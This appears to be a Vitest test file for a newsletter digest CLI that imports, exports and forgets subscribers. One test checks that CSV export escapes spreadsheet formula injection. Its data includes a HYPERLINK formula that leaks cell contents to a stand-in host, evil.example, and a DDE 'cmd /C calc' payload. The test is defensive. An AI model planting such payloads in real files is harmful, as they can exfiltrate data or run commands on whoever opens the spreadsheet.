import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { subscribersCommand } from '../../src/cli/subscribers.js';
import type { Output } from '../../src/cli/output.js';
import { REDIS_URL, TEST_SECRET, uniquePrefix } from '../helpers/env.js';
import { startStack, type Stack } from '../helpers/stack.js';

function capture(): Output & { out: string; errors: string } {
  const o = {
    out: '',
    errors: '',
    line: (t: string) => void (o.out += `${t}\n`),
    raw: (t: string) => void (o.out += t),
    err: (t: string) => void (o.errors += `${t}\n`),
    usage: (t: string) => {
      o.errors += `usage: ${t}\n`;
      return 2;
    },
  };
  return o;
}

describe('digest subscribers', () => {
  let stack: Stack;
  beforeEach(async () => {
    stack = await startStack({}, { workers: false });
  });
  afterEach(async () => {
    await stack.close();
  });
  const run = async (...args: string[]) => {
    const out = capture();
    const code = await subscribersCommand(stack.ctx, args, out);
    return { code, ...out };
  };

  it('imports good rows, reports bad ones with line numbers, and is harmless to repeat', async () => {
    const first = await run('import', 'test/fixtures/csv/mixed.csv', '--confirmed');
    expect(first.code).toBe(0);
    expect(first.errors).toBe(
      [
        'line 3: email must look like name@example.com',
        'line 4: timezone must be an IANA time zone such as Europe/London',
        'line 5: sendHour must be from 0 to 23',
        'line 6: topics must be a list of: markets, world',
        '',
      ].join('\n'),
    );
    expect(first.out).toContain('imported 2, already present 0, suppressed 0, rejected 4');
    expect(await stack.ctx.subscribers.findByEmail('good@example.com')).toMatchObject({
      status: 'confirmed', name: 'Good', topics: ['markets', 'world'], timezone: 'Europe/Paris', sendHour: 6,
      consent: { source: 'import-confirmed' },
    });
    expect(await stack.ctx.subscribers.findByEmail('second@example.com')).toMatchObject({ timezone: 'UTC', sendHour: 7, topics: ['world'] });
    const again = await run('import', 'test/fixtures/csv/mixed.csv', '--confirmed');
    expect(again.out).toContain('imported 0, already present 2');
    expect((await stack.ctx.subscribers.countsByStatus()).confirmed).toBe(2);
  });

  it('reads a Mailchimp export; without --confirmed people get a confirmation mail like any signup', async () => {
    const res = await run('import', 'test/fixtures/csv/mailchimp.csv');
    expect(res.out).toContain('imported 2');
    expect(await stack.ctx.subscribers.findByEmail('alice@example.com')).toMatchObject({ status: 'pending', name: 'Alice', consent: { source: 'import' } });
    expect(await stack.ctx.confirmOutbox.drain()).toBe(2); // the worker's hand-off to the queue
    expect(await stack.ctx.queues['system-mail'].count()).toBe(2);
  });

  it('exports every field, consent included, in CSV that import reads back', async () => {
    await run('import', 'test/fixtures/csv/mixed.csv', '--confirmed');
    const gone = await stack.ctx.subscribers.findByEmail('second@example.com');
    await stack.ctx.subscribers.setStatus(gone!.id, 'unsubscribed');
    const exported = await run('export');
    const rows = parse(exported.out, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual([
      'email', 'status', 'name', 'topics', 'timezone', 'send_hour', 'weekdays_only', 'cadence', 'weekly_day', 'watchlist', 'created_at',
      'confirmed_at', 'unsubscribed_at', 'consent_at', 'consent_ip', 'consent_user_agent', 'consent_source',
    ]);
    expect(rows.map((r) => [r.email, r.status, r.topics])).toEqual([
      ['good@example.com', 'confirmed', 'markets;world'],
      ['second@example.com', 'unsubscribed', 'world'],
    ]);

    // Into a fresh store: statuses survive, the unsubscribed reader is not re-subscribed.
    const other = await startStack({}, { workers: false });
    try {
      const dir = mkdtempSync(join(tmpdir(), 'md-export-'));
      writeFileSync(join(dir, 'export.csv'), exported.out);
      const out = capture();
      await subscribersCommand(other.ctx, ['import', join(dir, 'export.csv'), '--confirmed'], out);
      expect(await other.ctx.subscribers.findByEmail('good@example.com')).toMatchObject({ status: 'confirmed', consent: { source: 'import-confirmed' } });
      expect(await other.ctx.subscribers.findByEmail('second@example.com')).toMatchObject({ status: 'unsubscribed' });
      expect(await other.ctx.queues['system-mail'].count()).toBe(0);
    } finally {
      await other.close();
    }
  });

  it('imports and exports cadence, weekly day and watchlist, refusing unknown values line by line', async () => {
    const imported = await run('import', 'test/fixtures/csv/choices.csv', '--confirmed');
    expect(imported.errors).toMatch(/line 4: weeklyDay must be one of sun, mon/);
    expect(imported.errors).toMatch(/line 5: cadence must be daily or weekly/);
    expect(imported.errors).toMatch(/line 6: watchlist: AAPL is not a configured market symbol/);
    expect(imported.errors).toMatch(/line 7: watchlist: choose at most 10 instruments/);
    expect(await stack.ctx.subscribers.findByEmail('weekly@example.com')).toMatchObject({ cadence: 'weekly', weeklyDay: 'fri', watchlist: ['^GSPC', 'GC=F'] });
    expect(await stack.ctx.subscribers.findByEmail('daily@example.com')).toMatchObject({ cadence: 'daily', weeklyDay: 'mon', watchlist: [] });
    // Weekly readers are in their own slot index: the daily slot of the same hour has none of them.
    const slots = await stack.ctx.subscribers.slotsInUse();
    expect(slots).toContainEqual({ timezone: 'Asia/Kolkata', hour: 8, weekday: 5, count: 1 });
    expect(slots.filter((s) => s.timezone === 'Asia/Kolkata' && s.weekday === undefined)).toEqual([]);

    const rows = parse((await run('export')).out, { columns: true }) as Record<string, string>[];
    const weekly = rows.find((r) => r.email === 'weekly@example.com')!;
    expect([weekly.cadence, weekly.weekly_day, weekly.watchlist]).toEqual(['weekly', 'fri', '^GSPC;GC=F']);
    expect(rows.find((r) => r.email === 'daily@example.com')!.cadence).toBe('daily');
  });

  it('neutralises formulas in every user-supplied cell of the export, and import gives the same values back', async () => {
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1-2', '-2+3', "'quoted", "'=already", 'Plain Ann'];
    const ctxSubs = stack.ctx.subscribers;
    for (const [i, name] of names.entries()) {
      await ctxSubs.create({
        email: i === 0 ? '=1+1@example.com' : `n${i}@example.com`, name, status: 'confirmed', topics: ['markets'], timezone: 'UTC', sendHour: 7, weekdaysOnly: false,
        consent: { at: new Date().toISOString(), ip: '203.0.113.9', userAgent: i === 1 ? '=cmd|\' /C calc\'!A0' : 'Mozilla/5.0', source: 'api' },
        confirmedAt: new Date().toISOString(), unsubscribedAt: null,
      });
    }
    const exported = await run('export');
    const rows = parse(exported.out, { columns: true }) as Record<string, string>[];
    // No cell a spreadsheet would run as a formula.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows[0]!.email).toBe("'=1+1@example.com");
    expect(rows[1]!.consent_user_agent).toBe("'=cmd|' /C calc'!A0");

    const other = await startStack({}, { workers: false });
    try {
      const dir = mkdtempSync(join(tmpdir(), 'md-export-'));
      writeFileSync(join(dir, 'export.csv'), exported.out);
      const report = capture();
      await subscribersCommand(other.ctx, ['import', join(dir, 'export.csv'), '--confirmed'], report);
      expect(report.errors).toBe('');
      for (const [i, name] of names.entries()) {
        const back = await other.ctx.subscribers.findByEmail(i === 0 ? '=1+1@example.com' : `n${i}@example.com`);
        expect(back?.name).toBe(name);
      }
      expect((await other.ctx.subscribers.findByEmail('n1@example.com'))!.consent.userAgent).toBe("=cmd|' /C calc'!A0");
    } finally {
      await other.close();
    }
  });

  it('forgets a person but keeps a suppression entry so an old list cannot re-add them', async () => {
    await run('import', 'test/fixtures/csv/mixed.csv', '--confirmed');
    const res = await run('forget', 'GOOD@example.com');
    expect(res.out).toContain('forgotten');
    expect(await stack.ctx.subscribers.findByEmail('good@example.com')).toBeNull();
    const again = await run('import', 'test/fixtures/csv/mixed.csv', '--confirmed');
    expect(again.out).toContain('suppressed 1');
    expect(await stack.ctx.subscribers.findByEmail('good@example.com')).toBeNull();
    const signup = await stack.app.inject({ method: 'POST', url: '/api/subscribe', payload: { email: 'good@example.com' } });
    expect(signup.statusCode).toBe(202);
    expect(await stack.ctx.subscribers.findByEmail('good@example.com')).toBeNull();
  });
});

describe('digest CLI process', () => {
  const digest = (args: string[], env: Record<string, string>) =>
    spawnSync(process.execPath, ['bin/digest.js', ...args], {
      env: { PATH: process.env.PATH!, REDIS_URL, KEY_PREFIX: uniquePrefix('cli'), LOG_LEVEL: 'silent', ...env },
      encoding: 'utf8',
      timeout: 60_000,
    });

  it('stops with one line naming the variable when the config is bad', () => {
    const missing = digest(['queues'], {});
    expect(missing.status).toBe(78);
    expect(missing.stderr.trim()).toBe('configuration error: SECRET_KEY: is required');
    const bad = digest(['api'], { SECRET_KEY: TEST_SECRET, DEFAULT_SEND_HOUR: '25' });
    expect(bad.status).toBe(78);
    expect(bad.stderr).toMatch(/^configuration error: DEFAULT_SEND_HOUR: /);
  });

  it('prints queue counts', () => {
    const res = digest(['queues'], { SECRET_KEY: TEST_SECRET });
    expect(res.status).toBe(0);
    expect(res.stdout).toMatch(/^queue\s+waiting\s+active/);
    expect(res.stdout).toMatch(/^system-mail\s+0/m);
  });

  it('explains unknown commands', () => {
    const res = digest(['frobnicate'], { SECRET_KEY: TEST_SECRET });
    expect(res.status).toBe(2);
    expect(res.stderr).toContain('unknown command "frobnicate"');
  });
});
